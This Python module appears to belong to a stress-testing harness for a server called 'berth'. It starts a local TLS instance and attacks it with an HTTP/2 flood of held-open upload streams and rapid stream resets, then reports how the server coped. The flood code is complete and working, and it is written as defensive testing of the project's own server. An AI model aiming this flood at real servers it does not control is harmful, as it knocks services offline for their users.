"""HTTP/2 stream flood and rapid resets, against a berth of its own that serves TLS.

berth speaks HTTP/2 only where ALPN chose it (no h2c on a plain listener), so this attack
starts a second berth with a throwaway self-signed certificate (made with the openssl
command) and the well-behaved client talks HTTPS to it, measured against its own idle
baseline there.

First half of the window: several connections each open as many streams as the server's
SETTINGS allow, every one a blob upload PATCH to a session of its own that sends its headers
(half of them with a Content-Range declaring a 1 MiB chunk) and 1 KiB of body or none, and
never ends. They are held to the end of the window.
Second half, beside them: connections that open streams and reset them at once (RST_STREAM
CANCEL), alternating a blob GET and an upload POST, as fast as one Python thread can, until
the window ends; a connection the server closes (GOAWAY) is replaced, up to a bound."""

import importlib
import os
import shutil
import socket
import ssl
import subprocess
import sys
import time

from attacks import Attack, NotRun
from harness import wire
from harness.server import Berth

REPO = "abuse/h2"
MAX_RECONNECTS = 200
MAX_RESETS = 2_000_000
RESET_BATCH = 100


def load_h2():
    """Imports the h2 package, installing it with pip first if it is missing."""
    try:
        return importlib.import_module("h2.connection")
    except ImportError:
        pass
    print("[abuse] installing h2 (pip install h2) for the HTTP/2 attack", file=sys.stderr)
    done = subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "h2"],
                          stdout=sys.stderr, stderr=sys.stderr)
    if done.returncode != 0:
        raise NotRun("h2 is not installed and `pip install h2` failed")
    importlib.invalidate_caches()
    return importlib.import_module("h2.connection")


def make_certificate(directory):
    if shutil.which("openssl") is None:
        raise NotRun("no openssl command to make the TLS certificate HTTP/2 needs")
    cert, key = os.path.join(directory, "cert.pem"), os.path.join(directory, "key.pem")
    made = subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
         "-nodes", "-keyout", key, "-out", cert, "-days", "2", "-subj", "/CN=127.0.0.1",
         "-addext", "subjectAltName=IP:127.0.0.1"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    if made.returncode != 0:
        raise NotRun(f"openssl could not make a certificate: {made.stderr.decode()[-200:]}")
    return cert, key


class Peer:
    """One HTTP/2 client connection driven by hand through h2's state machine."""

    def __init__(self, target):
        import h2.config
        import h2.connection
        raw = socket.create_connection((target.host, target.port), timeout=10)
        self.sock = wire.tls_context(alpn=("h2",)).wrap_socket(raw, server_hostname=target.host)
        if self.sock.selected_alpn_protocol() != "h2":
            self.sock.close()
            raise RuntimeError("the server did not choose h2 by ALPN")
        self.authority = f"{target.host}:{target.port}"
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        self.status = {}     # stream id -> :status
        self.location = {}   # stream id -> location header
        self.ended = set()   # streams the server ended
        self.resets = 0      # RST_STREAM frames from the server
        self.goaway = None   # error code name of a GOAWAY
        self.closed = False
        self.max_streams = None
        self.flush()
        until = time.monotonic() + 5
        while self.max_streams is None and not self.closed and time.monotonic() < until:
            self.pump(0.2)

    def headers(self, method, path, extra=()):
        return [(":method", method), (":scheme", "https"), (":authority", self.authority),
                (":path", path), *extra]

    def flush(self):
        data = self.conn.data_to_send()
        if data and not self.closed:
            self.sock.settimeout(10)
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True

    def pump(self, timeout):
        """Takes in what the server sent within `timeout`."""
        import h2.events
        import h2.exceptions
        import h2.settings
        if self.closed:
            return
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 16)
        except (socket.timeout, ssl.SSLWantReadError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                h = dict(ev.headers)
                self.status[ev.stream_id] = h.get(":status")
                if "location" in h:
                    self.location[ev.stream_id] = h["location"]
            elif isinstance(ev, h2.events.DataReceived):
                self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                self.ended.add(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                self.resets += 1
                self.ended.add(ev.stream_id)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = getattr(ev.error_code, "name", str(ev.error_code))
                self.closed = True
            elif isinstance(ev, h2.events.RemoteSettingsChanged):
                code = h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS
                if code in ev.changed_settings:
                    self.max_streams = ev.changed_settings[code].new_value
        self.flush()

    def wait_for(self, streams, seconds):
        until = time.monotonic() + seconds
        while not self.closed and time.monotonic() < until and not streams <= self.ended:
            self.pump(0.1)

    def close(self):
        self.closed = True
        try:
            self.sock.close()
        except OSError:
            pass


class H2Flood(Attack):
    name = "h2-flood"
    title = "HTTP/2 stream flood + rapid resets (TLS)"

    def server(self, run):
        load_h2()
        cert, key = make_certificate(run.workdir)
        berth = Berth(run.binary, os.path.join(run.workdir, "h2-data"),
                      os.path.join(run.workdir, "berth-h2.log"), run.berth_args,
                      tls=(cert, key), name="h2")
        return berth.start()

    def teardown(self, run, berth):
        if berth is not None:
            berth.stop()

    def flood(self, peer, statuses):
        """Opens as many upload sessions, then as many PATCH streams, as the server allows."""
        n = peer.max_streams or 100
        posts = set()
        for _ in range(n):
            sid = peer.conn.get_next_available_stream_id()
            peer.conn.send_headers(sid, peer.headers("POST", f"/v2/{REPO}/blobs/uploads/",
                                                     [("content-length", "0")]), end_stream=True)
            posts.add(sid)
        peer.flush()
        peer.wait_for(posts, 10)
        for sid in posts:
            key = f"POST {peer.status.get(sid, 'none')}"
            statuses[key] = statuses.get(key, 0) + 1
        patches = 0
        for i, sid in enumerate(sorted(posts)):
            location = peer.location.get(sid)
            if location is None or peer.closed:
                continue
            patch = peer.conn.get_next_available_stream_id()
            extra = [("content-type", "application/octet-stream")]
            if i % 4 >= 2:
                extra.append(("content-range", "0-1048575"))
            peer.conn.send_headers(patch, peer.headers("PATCH", location, extra))
            if i % 2:
                peer.conn.send_data(patch, b"x" * 1024)
            patches += 1
        peer.flush()
        return patches

    def attack(self, run, berth, deadline):
        import h2.errors
        target = berth.target
        statuses = {}
        held, opened = [], 0
        half = time.monotonic() + (deadline - time.monotonic()) / 2
        for _ in range(run.h2_connections):
            if time.monotonic() >= half:
                break
            try:
                peer = Peer(target)
            except (OSError, RuntimeError) as e:
                statuses[f"connect failed ({type(e).__name__})"] = statuses.get(
                    f"connect failed ({type(e).__name__})", 0) + 1
                continue
            held.append(peer)
            opened += self.flood(peer, statuses)
        max_streams = held[0].max_streams if held else None

        def tend_held(seconds):
            for peer in held:
                peer.pump(seconds / max(1, len(held)))

        while time.monotonic() < half:
            tend_held(0.2)
        sessions_open = wire.metric(target, "berth_upload_sessions_open")

        # Rapid resets, beside the held streams.
        resets, reconnects, goaways = 0, 0, {}
        rate_started = time.monotonic()
        peer = None
        last_tend = time.monotonic()
        while time.monotonic() < deadline and resets < MAX_RESETS:
            if peer is None or peer.closed:
                if peer is not None:
                    goaways[peer.goaway or "closed"] = goaways.get(peer.goaway or "closed", 0) + 1
                    peer.close()
                    if reconnects >= MAX_RECONNECTS:
                        break
                    reconnects += 1
                try:
                    peer = Peer(target)
                except (OSError, RuntimeError):
                    peer = None
                    time.sleep(0.05)
                    continue
            for i in range(RESET_BATCH):
                sid = peer.conn.get_next_available_stream_id()
                if i % 2:
                    path = f"/v2/{REPO}/blobs/sha256:{os.urandom(32).hex()}"
                    peer.conn.send_headers(sid, peer.headers("GET", path), end_stream=True)
                else:
                    path = f"/v2/{REPO}/blobs/uploads/"
                    peer.conn.send_headers(sid, peer.headers("POST", path, [("content-length", "0")]),
                                           end_stream=True)
                peer.conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                resets += 1
            peer.flush()
            peer.pump(0)
            if time.monotonic() - last_tend > 0.5:
                tend_held(0.05)
                last_tend = time.monotonic()
        rate = resets / max(0.001, time.monotonic() - rate_started)
        if peer is not None:
            if peer.goaway:
                goaways[peer.goaway] = goaways.get(peer.goaway, 0) + 1
            peer.close()
        still_open = sum(1 for p in held if not p.closed)
        server_resets = sum(p.resets for p in held)
        for p in held:
            p.close()
        time.sleep(0.5)
        sessions_after = wire.metric(target, "berth_upload_sessions_open")
        return [
            f"{len(held)} connections × max_concurrent_streams={max_streams}: "
            + ", ".join(f"{k}×{v}" for k, v in sorted(statuses.items()))
            + f"; {opened} PATCH streams held, {still_open} connections still open at the end, "
            f"{server_resets} streams reset by berth",
            f"upload sessions open after the flood: {sessions_open}",
            f"rapid resets: {resets} streams opened and reset ({rate:.0f}/s), "
            f"{reconnects} reconnections, server closes: "
            + (", ".join(f"{k}×{v}" for k, v in sorted(goaways.items())) or "none"),
            f"upload sessions open after the resets (held streams closed): {sessions_after}",
        ]
